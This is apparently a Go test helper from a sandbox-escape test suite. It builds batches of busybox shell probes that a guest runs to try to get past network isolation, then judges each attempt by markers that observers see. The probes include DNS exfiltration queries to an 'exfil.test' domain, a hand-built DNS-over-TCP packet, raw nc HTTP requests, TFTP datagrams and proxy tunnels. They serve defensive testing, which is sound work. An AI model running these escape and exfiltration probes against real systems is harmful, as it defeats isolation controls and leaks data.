// SPDX-License-Identifier: Apache-2.0

package escape

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// probes are what a guest can do with busybox alone. What they print is what
// came back; each takes a marker along, by which an observer knows the attack.
// busybox's nc has no UDP, so its TFTP client sends the datagrams. Its nc ends
// one direction with its input, which the bundle takes for a guest that left.
// A marker is 15 characters long: dnstcp's query says so.
const probes = `
cd /tmp 2>/dev/null || cd /
http() { printf 'GET /%s HTTP/1.0\r\n\r\n' "$3" | timeout $T nc "$1" "$2"; }
udp() { timeout $T tftp -g -l /dev/null -r "$3" "$1" "$2"; }
dns() { timeout $T nslookup "$2.exfil.test" $1; }
dnstcp() { printf '\000\054\000\001\001\000\000\001\000\000\000\000\000\000\017%s\005exfil\004test\000\000\001\000\001' "$2" | timeout $T nc "$1" 53; }
echo_() { ping -c 1 -W $T "$1"; }
scoped() { probe=$1 addr=$2; shift 2; for i in $(ip -o link | sed 's/^[0-9]*: //; s/[@:].*//'); do $probe "$addr%$i" "$@" & done; wait; }
proxy() { { printf %b "$1"; sleep $T; } | timeout $T nc "$BUNDLE" 8888; }
tunnel() { { printf %b "$1"; sleep $S; printf %b "$2"; sleep $T; } | timeout $T nc "$BUNDLE" 8888; }
`

// attempt is one attack of a batch.
type attempt struct {
	name   string
	marker string
	// sh is a call of one of the probes.
	sh string
	// answered is what the guest is told only where it got through.
	answered string
}

// outcome is how an attempt ended.
type outcome struct {
	reached bool
	// told is what the guest said, how the evidence in words.
	told, how string
}

// script is a batch: all attempts at once, so that the patience is spent once.
func script(attempts []attempt, patience time.Duration, bundle string) string {
	var s strings.Builder
	seconds := int(patience.Seconds())
	fmt.Fprintf(&s, "T=%d S=%d BUNDLE=%s\n%s", seconds, max(1, seconds/3), bundle, probes)
	for i, a := range attempts {
		fmt.Fprintf(&s, "( %s ) </dev/null >out.%d 2>&1 &\n", a.sh, i)
	}
	fmt.Fprintf(&s, "wait\ni=0\nwhile [ $i -lt %d ]; do printf '\\n@@ %%s\\n' $i; head -c 400 out.$i; rm -f out.$i; i=$((i + 1)); done\n", len(attempts))
	return s.String()
}

// parse splits a script's output by attempt.
func parse(t *testing.T, output string, n int) []string {
	t.Helper()
	parts := strings.Split(output, "\n@@ ")
	if len(parts) != n+1 {
		t.Fatalf("a batch of %d attacks printed %d answers:\n%s", n, len(parts)-1, output)
	}
	told := make([]string, n)
	for i, p := range parts[1:] {
		number, text, _ := strings.Cut(p, "\n")
		if number != fmt.Sprint(i) {
			t.Fatalf("answer %d of a batch is number %q:\n%s", i, number, output)
		}
		told[i] = text
	}
	return told
}

// judge says by observers and answers how each attempt ended.
func judge(attempts []attempt, told []string, seen sights) []outcome {
	out := make([]outcome, len(attempts))
	for i, a := range attempts {
		out[i].told = told[i]
		if sight, ok := seen.find(a.marker); ok {
			out[i].reached, out[i].how = true, sight.String()
		} else if a.answered != "" && strings.Contains(told[i], a.answered) {
			out[i].reached, out[i].how = true, fmt.Sprintf("it was answered %q", told[i])
		}
	}
	return out
}
